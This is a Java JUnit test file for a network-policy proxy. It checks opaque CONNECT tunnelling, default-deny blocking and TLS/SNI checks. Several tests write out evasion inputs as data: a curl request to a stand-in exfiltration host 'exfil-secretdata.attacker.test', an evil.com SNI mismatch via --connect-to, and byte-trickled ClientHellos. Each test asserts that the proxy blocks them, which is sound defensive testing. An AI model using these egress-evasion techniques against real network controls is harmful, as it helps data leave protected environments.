package dev.sbx.proxy.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sbx.proxy.log.LogRecord;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Opaque CONNECT tunnels (checklist A, D) with real curl and a JDK TLS client. */
class TunnelTest {
  @TempDir Path tmp;
  Harness h;
  Origin npm;
  ScriptedResolver resolver = new ScriptedResolver();

  @BeforeEach
  void setUp() throws Exception {
    h = new Harness(tmp);
    npm = h.tls("registry.npmjs.org");
    h.tls("evil.com");
    h.resolve("refused.example:443=127.0.0.1:1");
    h.rules("allow *.npmjs.org", "allow refused.example");
    h.start(c -> c.withResolver(resolver));
  }

  @AfterEach
  void tearDown() throws Exception {
    h.close();
  }

  private String curlGet(String url, String... extra) throws Exception {
    List<String> args = new java.util.ArrayList<>(List.of("-x", h.proxyUrl(), "--cacert", h.originCaFile.toString()));
    args.addAll(List.of(extra));
    args.add(url);
    return Curl.run(args).codes();
  }

  @Test
  void p4OpaqueTunnelShowsOriginCertificateAndNeverMints() throws Exception {
    // Trusting only the origin CA proves the client saw the origin's own certificate.
    Curl.Result r = Curl.run("-x", h.proxyUrl(), "--cacert", h.originCaFile.toString(), "https://registry.npmjs.org/pkg");
    assertEquals("200 200 0", r.codes(), r.err());
    assertTrue(r.body().startsWith("REQUEST GET /pkg"), r.body());
    assertEquals(0, h.proxy.leafMints());
    LogRecord rec = h.awaitLog(l -> "CONNECT".equals(l.method()) && "allow".equals(l.decision()));
    assertEquals("tunnel", rec.mode());
    assertTrue(rec.bytesUp() > 0 && rec.bytesDown() > 0, rec.toString());
  }

  @Test
  void p1p11p27DeniedConnectIs403BeforeAnyTunnelWithoutLookup() throws Exception {
    Curl.Result r = Curl.run("-x", h.proxyUrl(), "-v", "https://exfil-secretdata.attacker.test/");
    assertEquals("000 403 56", r.codes(), r.err());
    assertTrue(r.err().contains("Blocked by network policy: exfil-secretdata.attacker.test:443 (rule: default deny)")
        || r.err().contains("403"), r.err());
    assertTrue(resolver.calls.isEmpty(), "resolver called: " + resolver.calls);
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n").readAll();
      assertTrue(resp.startsWith("HTTP/1.1 403 Forbidden\r\n"), resp);
      assertTrue(resp.contains("X-Proxy-Error: blocked-by-policy"), resp);
      assertTrue(resp.endsWith("\r\n\r\nBlocked by network policy: example.org:443 (rule: default deny)\n"), resp);
    }
    LogRecord rec = h.awaitLog(l -> "example.org".equals(l.host()));
    assertEquals("deny", rec.decision());
    assertEquals("default-deny", rec.reason());
  }

  @Test
  void p40SniMismatchClosesTunnelAndNoRequestReachesOrigin() throws Exception {
    // CONNECT registry.npmjs.org:443 while SNI and Host say evil.com.
    String codes = curlGet("https://evil.com/", "--connect-to", "evil.com:443:registry.npmjs.org:443");
    assertTrue(codes.startsWith("000 200 "), codes);
    assertTrue(npm.seen.isEmpty());
    LogRecord rec = h.awaitLog(l -> "deny".equals(l.decision()) && "tls-check".equals(l.reason()));
    assertTrue(rec.detail().contains("evil.com"), rec.toString());
  }

  @Test
  void p41NoSniIsRelayed() throws Exception {
    StringBuilder answer = new StringBuilder();
    Socket s = TunnelClient.connect(h.address(), "registry.npmjs.org:443", answer);
    assertTrue(answer.toString().startsWith("HTTP/1.1 200 "), answer.toString());
    // No SNI: the origin's certificate is still checked against the origin CA by the client.
    try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, null, List.of("http/1.1"))) {
      tls.getOutputStream().write("GET /nosni HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
          .getBytes(StandardCharsets.US_ASCII));
      String resp = new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
      assertTrue(resp.contains("REQUEST GET /nosni"), resp);
    }
  }

  @Test
  void p42ClientHelloOneBytePerWriteStillChecked() throws Exception {
    try (Trickler t = new Trickler(h.address())) {
      InetSocketAddress via = new InetSocketAddress("127.0.0.1", t.port());
      Socket s = TunnelClient.connect(via, "registry.npmjs.org:443", new StringBuilder());
      try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, "registry.npmjs.org", null)) {
        tls.getOutputStream().write("GET /slow HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
            .getBytes(StandardCharsets.US_ASCII));
        assertTrue(new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1).contains("REQUEST GET /slow"));
      }
    }
    try (Trickler t = new Trickler(h.address())) {
      InetSocketAddress via = new InetSocketAddress("127.0.0.1", t.port());
      Socket s = TunnelClient.connect(via, "registry.npmjs.org:443", new StringBuilder());
      assertThrows(IOException.class, () -> TunnelClient.tls(s, h.originCaFile, "evil.com", null).close());
    }
    assertEquals(1, npm.seen.size());
  }

  @Test
  void p55NonTlsBytesAfterConnectAreNeverRelayed() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      c.send("CONNECT registry.npmjs.org:443 HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n");
      String resp = c.readAll();
      assertTrue(resp.startsWith("HTTP/1.1 200 "), resp);
      assertEquals("HTTP/1.1 200 Connection established\r\n\r\n", resp);
    }
    try (RawClient c = new RawClient(h.address())) {
      c.send("CONNECT registry.npmjs.org:443 HTTP/1.1\r\n\r\n");
      Thread.sleep(50);
      c.send("SSH-2.0-OpenSSH_9.2\r\n");
      assertTrue(c.readAll().startsWith("HTTP/1.1 200 "));
    }
    assertTrue(npm.seen.isEmpty());
  }

  @Test
  void p57UpstreamRefusalIs502NeverA200() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT refused.example:443 HTTP/1.1\r\n\r\n").readAll();
      assertTrue(resp.startsWith("HTTP/1.1 502 "), resp);
    }
  }

  @Test
  void p58Http10ConnectWithoutHostAccepted() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT registry.npmjs.org:443 HTTP/1.0\r\n\r\n").readAll();
      assertTrue(resp.startsWith("HTTP/1.1 200 "), resp);
    }
  }

  @Test
  void p30p41UppercaseDottedConnectWorksAndJdkSniMismatchIsClosed() throws Exception {
    StringBuilder answer = new StringBuilder();
    Socket s = TunnelClient.connect(h.address(), "REGISTRY.npmjs.org.:443", answer);
    assertTrue(answer.toString().startsWith("HTTP/1.1 200 "), answer.toString());
    try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, "registry.npmjs.org", null)) {
      tls.getOutputStream().write("GET /x HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
          .getBytes(StandardCharsets.US_ASCII));
      assertTrue(new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1).contains("REQUEST GET /x"));
    }
    Socket s2 = TunnelClient.connect(h.address(), "registry.npmjs.org:443", new StringBuilder());
    assertThrows(IOException.class, () -> TunnelClient.tls(s2, h.originCaFile, "files.pythonhosted.org", null).close());
  }
}
